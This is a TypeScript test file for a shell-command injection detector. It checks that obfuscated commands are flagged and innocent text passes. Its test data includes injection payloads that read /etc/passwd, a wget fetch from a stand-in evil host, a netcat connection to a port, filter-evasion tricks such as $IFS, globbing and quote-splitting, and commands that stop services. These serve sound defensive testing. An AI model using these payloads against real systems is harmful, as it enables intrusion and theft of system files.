import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { detectCommand } from "../../../src/sentinel/detect/index.ts";
import { type ShellCommand, visitCommands } from "../../../src/sentinel/detect/shell-words.ts";

function commandsOf(text: string): ShellCommand[] {
  const commands: ShellCommand[] = [];
  visitCommands(text, (command) => (commands.push(command), null));
  return commands;
}

/** The commands of a text as one line each. */
function read(text: string): string[] {
  return commandsOf(text).map(({ opener, words }) =>
    [opener, ...words.map((word) => `${word.redirected ? ">" : ""}${word.text}${word.torn ? "!" : ""}`)].join(
      " ",
    ),
  );
}

describe("a text as a shell reads it", () => {
  const cases: readonly (readonly [text: string, commands: readonly string[]])[] = [
    ["cat /etc/passwd", ["^ cat /etc/passwd"]],
    ["a; b | c && d & e\nf", ["^ a", "; b", "| c", "&& d", "& e", "\n f"]],
    ["x `id` $(ls -l)", ["^ x", "` id", "$( ls -l"]],
    ["'cat' \"/x\"", ["^ cat /x"]],
    ["c'a't c''at c\"\"at c\\at c^at", ["^ cat! cat! cat! cat! cat!"]],
    ["don't o'neill", ["^ dont oneill"]],
    ["c$@at c$*at c${x}at c$1at ca``t ca$()t cat$u", ["^ cat! cat! cat! cat! cat! cat! cat!"]],
    ["cat$IFS/x cat${IFS}/x cat$IFS$9/x", ["^ cat! /x cat! /x cat! /x"]],
    ["${PATH:0:1}etc", ["^ /etc!"]],
    ["a=c;b=at;$a$b x", ["^ a=c", "; b=at", "; cat! x"]],
    ["{cat,/etc/passwd}", ["{ cat /etc/passwd"]],
    ["{a: 1, b}", ["^ {a: 1, b}"]],
    ["x;(id)", ["^ x", "; id"]],
    ["cat</x>y", ["^ cat >/x >y"]],
  ];
  test.each(cases)("%s", (text, commands) => expect(read(text)).toEqual(commands));

  test("keeps little of what is long", () => {
    expect(commandsOf("a b c d e f g h i j k")[0]?.words).toHaveLength(8);
    expect(commandsOf("a".repeat(50_000))[0]?.words[0]?.text).toHaveLength(128);
  });
});

const COMMANDS = [
  "cat /etc/passwd",
  "whoami",
  "ls -la /",
  "wget http://evil.example/x",
  "sleep 5",
  "nc 203.0.113.7 4444",
];

/** Something that a shell does not see, in the middle of the first word. */
const inside =
  (hidden: string) =>
  (command: string): string =>
    `${command.slice(0, 1)}${hidden}${command.slice(1)}`;

const TEARS: readonly (readonly [name: string, tear: (command: string) => string])[] = [
  ...["''", '""', "\\", "$@", "$*", "${x}", "$1", "``", "$()", "^"].map(
    (hidden) => [hidden, inside(hidden)] as const,
  ),
  ["quoted letters", (command) => command.replace(/^(.)(.)/, "'$1''$2'")],
  ["variables", (command) => command.replace(/^(..)(\S*)/, "a=$1;b=$2;$a$b")],
];

const OPENERS: readonly ((command: string) => string)[] = [
  (command) => `x;${command}`,
  (command) => `x | ${command} #`,
  (command) => `';${command};'`,
  (command) => `1 && ${command}`,
  (command) => `$(${command})`,
  (command) => `\`${command}\``,
];

test("finds torn commands behind every separator", () => {
  const all = TEARS.flatMap(([, tear]) =>
    COMMANDS.flatMap((command) => OPENERS.map((open) => open(tear(command)))),
  );
  expect(all).toHaveLength(432);
  // Back quotes inside of back quotes end them.
  const missed = all.filter((text) => detectCommand(text) === null);
  expect(missed).toEqual([]);
});

const ATTACKS: readonly string[] = [
  "127.0.0.1+&&+ls /etc",
  "file:${br}/et${u}c/pas${te}swd?/",
  "; systemctl stop nginx",
  "127.0.0.1;killall nginx",
  "| sc query",
  "; { id; }",
  ";(id)",
  "; exec id",
  "; date",
  "{,ifconfig,eth0}",
  "/???/c?t /e?c/p?sswd",
  "x;/b[i]n/ca* x",
  "/e*c/pa*d",
  "cat /etc/pa''sswd",
  "x=/etc/passwd;cat $x",
  "127.0.0.1|{wget,http://evil.example/x}",
  "x;cat</etc/passwd",
  "x; sudo -n c''at /x",
  "a|time s''h -c id",
  "$u+cat /etc$u/passwd$u",
  "x;socat /var/a -",
];
const INNOCENT: readonly string[] = [
  ";id;en",
  "en;nl;de;fr",
  "& Co.",
  "| date | sort | name |",
  "; thanks",
  "12.5; cut",
  "1 | echo dot",
  "www.shop.example; find us",
  "AT&T",
  "rock'n'roll cd",
  "Rock'n'Roll; Bar",
  "mind your p's and q's; i'd like 5",
  "it's; don't; won't",
  "O'Brien's cat & dog",
  "what??? who/where? *",
  "price: $5 & $10; find one",
  "US$cat",
  "{red,green,blue}",
  "const {id,name} = product;",
  "C:\\cat\\dog",
  "size: M | sort by price",
  "echo dot; find my size 5",
  "a `date` with `sort`",
  "see ./images/*.jpg and /p/*",
];

test.each(ATTACKS)("finds %s", (text) => expect(detectCommand(text)).not.toBeNull());
test.each(INNOCENT)("passes %s", (text) => expect(detectCommand(text)).toBeNull());

test("finds a command behind many", () =>
  expect(detectCommand(`${"a;".repeat(5_000)}c''at /etc/x`)).not.toBeNull());

test("never throws, whatever the bytes", () => {
  const pieces = "cat a= $a $IFS ${ } { , ' \" \\ ` $( ) ; | & < > ? * [ ] / /b?n/ # ~ -x".split(" ");
  const piece = fc.constantFrom(...pieces, " ", "\n", "\0", "\xff");
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (all) => {
      const found = detectCommand(all.join(""));
      expect(found === null || found.length > 0).toBe(true);
    }),
    { numRuns: 2_000 },
  );
});
